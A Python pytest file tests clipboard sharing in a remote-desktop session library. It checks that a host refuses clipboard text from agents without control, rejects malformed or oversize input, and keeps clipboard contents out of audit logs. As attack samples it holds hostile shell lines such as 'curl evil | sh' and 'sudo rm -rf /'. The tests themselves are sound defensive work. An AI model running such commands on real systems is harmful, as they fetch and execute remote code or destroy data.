"""clip39: text clipboard sharing in the session layer (transport/session/
clipboard*.py). Real host and viewer over sealed channels on loopback; the
host's clipboard is the embedder's object (``clipboard=``), here one in
memory: the X11 one the CLI passes is tested under Xvfb
(tests/test_clip39_cli.py).

The attacks, by name: an agent without CONTROL cannot set the host's
clipboard; text sent before the grant is refused after it; oversize and
bad UTF-8 are refused and the session goes on; nothing of the host's
clipboard leaves without its user's command or sync on (and sync sends only
changes made while an agent holds CONTROL); a viewer of the version before
is never sent any; the audit log has its length, never the text nor a digest of it."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import json
import logging
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from screencodec.capture.synthetic import SyntheticDesktop
from screencodec.recording import Recorder, RecordingReader
from screencodec.transport import (
    CONTROL,
    VIEW,
    ConsentRequest,
    Grant,
    Host,
    HostConfig,
    RecordingInjector,
    Viewer,
)
from screencodec.transport.channel.codes import SessionCredentials
from screencodec.transport.connect import connect_direct, listen_direct
from screencodec.transport.session import messages as m
from screencodec.transport.session.clipboard import (
    CLIPBOARD_CHANNEL,
    MAX_CLIPBOARD_BYTES,
    ClipboardError,
    text_payload,
)
from screencodec.transport.session.events import (
    ClipboardReceived,
    ClipboardRefused,
    ClipboardSent,
    ClipboardSet,
)

from .helpers import run, until


class MemoryClipboard:
    """The embedder's clipboard object, in memory (counts its reads)."""

    def __init__(self, text: str | None = None) -> None:
        self.text = text
        self.reads = 0
        self.writes: list[str] = []

    def get_text(self) -> str | None:
        self.reads += 1
        return self.text

    def set_text(self, text: str, /) -> None:
        self.text = text
        self.writes.append(text)


class _Session:
    def __init__(self, host: Host, viewer: Viewer, clip: MemoryClipboard) -> None:
        self.host, self.viewer, self.clip = host, viewer, clip
        self.host_events: list[Any] = []
        self.viewer_events: list[Any] = []

    def of(self, side: str, kind: type) -> list[Any]:
        events = self.host_events if side == "host" else self.viewer_events
        return [e for e in events if isinstance(e, kind)]


async def _collect(sub: Any, into: list[Any]) -> None:
    async for ev in sub:
        into.append(ev)


@contextlib.asynccontextmanager
async def _session(level: Any = VIEW | CONTROL, *, clip: MemoryClipboard | None = None,
                   recorder: Recorder | None = None, consent: Any = None,
                   old_viewer: bool = False, start: bool = True,
                   ) -> AsyncIterator[_Session]:  # fmt: skip
    async def grant(request: ConsentRequest) -> Grant:
        return Grant(request.level)

    clip = clip if clip is not None else MemoryClipboard()
    host = Host(SyntheticDesktop(96, 64, scenario="typing", seed=1), consent=consent or grant,
                injector=RecordingInjector(), config=HostConfig(local_input_pause=0.01),
                recorder=recorder, clipboard=clip)  # fmt: skip
    creds = SessionCredentials()
    async with host, await listen_direct("127.0.0.1", 0, creds, host.serve) as listener:
        viewer = Viewer(await connect_direct("127.0.0.1", listener.port, creds.code,
                                             creds.password), who="Dave")  # fmt: skip
        if old_viewer:  # a viewer of the version before: no CLIPBOARD bit
            viewer.capabilities = dataclasses.replace(
                viewer.capabilities, flags=(viewer.capabilities.flags & ~m.Capabilities.CLIPBOARD)
            )
        s = _Session(host, viewer, clip)
        tasks = [asyncio.ensure_future(_collect(host.events(), s.host_events)),
                 asyncio.ensure_future(_collect(viewer.events(), s.viewer_events))]  # fmt: skip
        running: asyncio.Task[str] | None = None
        try:
            if start:
                await viewer.start(level)
                running = asyncio.ensure_future(viewer.run())
                await until(lambda: viewer.clipboard.host_takes is not None or old_viewer,
                            10, "the host's clipboard hello")  # fmt: skip
            yield s
        finally:
            if running is not None and not running.done():
                await viewer.bye("done")
                await running
            for task in tasks:
                task.cancel()


async def _raw_text(viewer: Viewer, number: int, body: bytes) -> None:
    """What a hostile viewer sends: a clipboard text of its own making."""
    payload = bytes([2]) + number.to_bytes(4, "big") + b"\0" + body
    await viewer._send(m.Extension(CLIPBOARD_CHANNEL, payload))


def test_the_agent_with_control_puts_text_on_the_host_clipboard() -> None:
    async def main() -> None:
        async with _session() as s:
            assert s.viewer.clipboard.host_takes is True
            text = "journalctl -u nginx --since '10 min ago' | grep -i err — é"
            number = await s.viewer.send_clipboard(text)
            await until(lambda: s.of("viewer", ClipboardSet), 10, "the host's answer")
            assert s.clip.text == text
            (told,) = s.of("viewer", ClipboardSet)
            assert (told.number, told.characters) == (number, len(text))
            (seen,) = s.of("host", ClipboardSet)
            assert (seen.who, seen.characters) == ("Dave", len(text))

    run(main())


def test_attack_an_agent_without_control_cannot_set_the_host_clipboard(
        caplog: pytest.LogCaptureFixture) -> None:  # fmt: skip
    async def main() -> None:
        async with _session(VIEW, clip=MemoryClipboard("the customer's own")) as s:
            assert s.viewer.level == VIEW
            with pytest.raises(ClipboardError, match="needs control"):
                await s.viewer.send_clipboard("curl evil | sh")
            # The viewer's own check is a courtesy; the host's is the rule.
            await _raw_text(s.viewer, 7, b"curl evil | sh")
            await until(lambda: s.of("host", ClipboardRefused), 10, "the host's refusal")
            (refused,) = s.of("host", ClipboardRefused)
            assert (refused.who, refused.characters, refused.why, refused.number) == (
                "Dave",
                14,
                "the agent does not hold control",
                7,
            )
            assert s.clip.text == "the customer's own" and s.clip.writes == []
            # The session goes on: the same agent, granted CONTROL, may.
            assert await s.viewer.request(CONTROL) is True
            for _ in range(100):  # text in flight before it saw the grant is refused
                await s.viewer.send_clipboard("ls -la")
                await asyncio.sleep(0.02)
                if s.clip.text == "ls -la":
                    break
            assert s.clip.text == "ls -la"

    with caplog.at_level(logging.WARNING):
        run(main())
    assert "clipboard text from an agent without control" in caplog.text


def test_attack_text_sent_before_the_grant_is_refused_after_it(
        caplog: pytest.LogCaptureFixture) -> None:  # fmt: skip
    asked = asyncio.Event
    state: dict[str, Any] = {}

    async def slow_consent(request: ConsentRequest) -> Grant:
        state["asked"].set()
        await state["answer"].wait()
        return Grant(request.level)

    async def main() -> None:
        state["asked"], state["answer"] = asked(), asked()
        async with _session(consent=slow_consent, start=False) as s:
            starting = asyncio.ensure_future(s.viewer.start(VIEW | CONTROL))
            await state["asked"].wait()
            await _raw_text(s.viewer, 1, b"sudo rm -rf /")
            (link,) = s.host._runtime.serving
            await until(lambda: len(link._early) == 1, 10, "the host read it while it asked")
            state["answer"].set()
            assert await starting == VIEW | CONTROL
            running = asyncio.ensure_future(s.viewer.run())
            await until(lambda: s.of("host", ClipboardRefused), 10, "the refusal")
            (refused,) = s.of("host", ClipboardRefused)
            assert refused.why == "sent before the agent held control"
            assert s.clip.writes == []
            await s.viewer.bye("done")
            await running

    with caplog.at_level(logging.WARNING):
        run(main())
    assert "clipboard text sent before the agent held control" in caplog.text


def test_attack_oversize_and_bad_utf8_are_refused_and_the_session_goes_on(
        caplog: pytest.LogCaptureFixture) -> None:  # fmt: skip
    async def main() -> None:
        async with _session() as s:
            with pytest.raises(ClipboardError, match="at most 65536"):
                await s.viewer.send_clipboard("x" * (MAX_CLIPBOARD_BYTES + 1))
            await _raw_text(s.viewer, 40, b"y" * (MAX_CLIPBOARD_BYTES + 1))
            await _raw_text(s.viewer, 41, b"caf\xc3(")  # a broken sequence
            await _raw_text(s.viewer, 42, b"\xed\xa0\x80")  # a UTF-16 surrogate in UTF-8
            await until(lambda: len(s.of("host", ClipboardRefused)) == 3, 10, "three refusals")
            assert [(r.number, r.why) for r in s.of("host", ClipboardRefused)] == [
                (40, "more than 64 KiB"),
                (41, "not UTF-8 text"),
                (42, "not UTF-8 text"),
            ]
            assert s.clip.writes == []
            # A malformed one (no number) is dropped, logged, unanswered.
            await s.viewer._send(m.Extension(CLIPBOARD_CHANNEL, b"\x02\x00"))
            # Exactly 64 KiB goes (4-byte characters: 16384 of them).
            full = "\U0001f600" * (MAX_CLIPBOARD_BYTES // 4)
            await s.viewer.send_clipboard(full)
            await until(lambda: s.of("host", ClipboardSet), 10, "64 KiB set")
            assert s.clip.text == full
            assert s.of("host", ClipboardSet)[-1].characters == MAX_CLIPBOARD_BYTES // 4
            assert s.host.viewers  # still sharing

    with caplog.at_level(logging.WARNING):
        run(main())
    assert "clipboard text is not UTF-8" in caplog.text
    assert "clipboard text of 65537 bytes: at most 65536" in caplog.text
    assert "clipboard message from" in caplog.text and "malformed" in caplog.text


def test_attack_nothing_of_the_host_clipboard_leaves_without_its_user() -> None:
    async def main() -> None:
        clip = MemoryClipboard("hunter2")  # a password copied before the session
        async with _session(clip=clip) as s:
            s.host._runtime.clip_sync.period = 0.05
            assert s.host.clipboard_sync is False  # off by default
            clip.text = "correct horse battery staple"  # changed while the agent has control
            await asyncio.sleep(0.5)
            assert clip.reads == 0  # not even read
            assert s.of("viewer", ClipboardReceived) == []
            # The user's command sends what is there now, to this agent.
            assert await s.host.send_clipboard() == s.host.viewers
            await until(lambda: s.of("viewer", ClipboardReceived), 10, "the text")
            (got,) = s.of("viewer", ClipboardReceived)
            assert (got.text, got.reason) == ("correct horse battery staple", "command")
            assert "correct horse" not in repr(got)  # never printed by accident
            (sent,) = s.of("host", ClipboardSent)
            assert (sent.who, sent.characters, sent.reason) == ("Dave", 28, "command")

    run(main())


def test_sync_sends_only_changes_made_while_the_agent_holds_control() -> None:
    async def main() -> None:
        clip = MemoryClipboard("before the session")
        async with _session(VIEW, clip=clip) as s:
            sync = s.host._runtime.clip_sync
            sync.period = 0.05
            assert s.host.set_clipboard_sync(True) is True
            clip.text = "changed while the agent only watches"
            # No agent holds CONTROL: the clipboard is not even read (each
            # read of the CLI's is an xclip process: clipfix39).
            await asyncio.sleep(0.5)
            assert clip.reads == 0 and s.host.clipboard_sync is True
            assert s.of("viewer", ClipboardReceived) == []
            assert await s.viewer.request(CONTROL) is True
            reads = clip.reads
            await until(lambda: clip.reads >= reads + 3, 10, "sync reading under control")
            assert s.of("viewer", ClipboardReceived) == []  # what was there is not a change
            clip.text = "Error: ENOSPC: no space left on device"
            await until(lambda: s.of("viewer", ClipboardReceived), 10, "the change")
            (got,) = s.of("viewer", ClipboardReceived)
            assert (got.text, got.reason) == ("Error: ENOSPC: no space left on device", "sync")
            # The agent's own text is not sent back to it.
            for _ in range(100):
                await s.viewer.send_clipboard("df -h")
                await asyncio.sleep(0.02)
                if clip.text == "df -h":
                    break
            reads = clip.reads
            await until(lambda: clip.reads >= reads + 3, 10, "sync reading after the put")
            assert len(s.of("viewer", ClipboardReceived)) == 1
            # Control given back: changes stay.
            assert await s.viewer.release(CONTROL) is True
            await until(lambda: CONTROL not in next(iter(s.host._runtime.links)).level, 10)
            clip.text = "a new password"
            reads = clip.reads
            await asyncio.sleep(0.5)
            assert clip.reads <= reads + 1  # not read (one read may have been under way)
            assert len(s.of("viewer", ClipboardReceived)) == 1
            # Control again: read again, and what changed meanwhile is not sent.
            assert await s.viewer.request(CONTROL) is True
            reads = clip.reads
            await until(lambda: clip.reads >= reads + 3, 10, "sync reading under control")
            assert len(s.of("viewer", ClipboardReceived)) == 1
            assert s.host.set_clipboard_sync(False) is False
            reads = clip.reads
            await asyncio.sleep(0.3)
            assert clip.reads <= reads + 1  # stopped (one read may have been under way)

    run(main())


def test_a_viewer_of_the_version_before_is_never_sent_clipboard_text() -> None:
    async def main() -> None:
        async with _session(old_viewer=True, clip=MemoryClipboard("secret")) as s:
            got: list[m.Message] = []
            s.viewer.on_message = got.append
            s.host.set_clipboard_sync(True)
            assert await s.host.send_clipboard("for the agent") == ()
            await s.host.send_chat("after it")  # the channel keeps order: it came after
            await until(lambda: any(isinstance(x, m.Chat) for x in got), 10, "the chat line")
            assert s.viewer.clipboard.host_takes is None  # no hello either
            assert not [x for x in got if isinstance(x, m.Extension)
                        and x.channel == CLIPBOARD_CHANNEL]  # fmt: skip
            assert s.of("host", ClipboardSent) == []

    run(main())


def test_the_audit_log_has_a_row_per_transfer_never_the_text_nor_its_digest(
        tmp_path: Path) -> None:  # fmt: skip
    async def main() -> Any:
        recorder = Recorder(tmp_path, host_id="test-host")
        async with _session(recorder=recorder, clip=MemoryClipboard("pa55word")) as s:
            for _ in range(100):
                await s.viewer.send_clipboard("ssh admin@10.0.0.7")
                await asyncio.sleep(0.02)
                if s.clip.text == "ssh admin@10.0.0.7":
                    break
            await s.host.send_clipboard("pa55word copied by the user")
            await until(lambda: s.of("viewer", ClipboardReceived), 10, "the host's text")
        (session,) = await asyncio.to_thread(recorder.wait, 1, timeout=10.0)
        return session

    session = run(main())
    with RecordingReader(session.path) as reader:
        events = reader.events()
    rows = [e for e in events if e["type"].startswith("clipboard")]
    to_host = [e for e in rows if e.get("direction") == "to-host"]
    outcomes = [e for e in rows if e["type"] == "clipboard_outcome"]
    (to_viewer,) = [e for e in rows if e.get("direction") == "to-viewer"]
    set_one = to_host[-1]
    assert set_one["who"] == "Dave" and set_one["characters"] == 18
    assert set_one["bytes"] == 18 and "sha256" not in set_one
    assert outcomes[-1]["outcome"] == "set" and outcomes[-1]["number"] == set_one["number"]
    assert to_viewer["characters"] == 27
    assert to_viewer["bytes"] == 27 and "sha256" not in to_viewer
    logged = json.dumps(events)
    assert "pa55word" not in logged and "ssh admin" not in logged
    assert all("text" not in e for e in rows)


def test_the_audit_log_has_the_text_only_when_the_recorder_is_told(tmp_path: Path) -> None:
    async def main() -> Any:
        recorder = Recorder(tmp_path, host_id="test-host", include_clipboard=True)
        async with _session(VIEW, recorder=recorder) as s:
            await s.host.send_clipboard("line one\nline two")
            await until(lambda: s.of("viewer", ClipboardReceived), 10, "the host's text")
        (session,) = await asyncio.to_thread(recorder.wait, 1, timeout=10.0)
        return session

    session = run(main())
    with RecordingReader(session.path) as reader:
        events = reader.events()
        meta = reader.meta()
    (row,) = [e for e in events if e["type"] == "clipboard"]
    assert (row["text"], row["characters"], row["direction"]) == (
        "line one\nline two",
        17,
        "to-viewer",
    )
    assert meta["include_clipboard"] is True  # the file says it holds clipboard texts


def test_clipboard_text_is_checked_before_it_is_sent() -> None:
    with pytest.raises(ClipboardError, match="not valid Unicode"):
        text_payload(1, "\ud800")
    assert len(text_payload(1, "é")) == 6 + 2
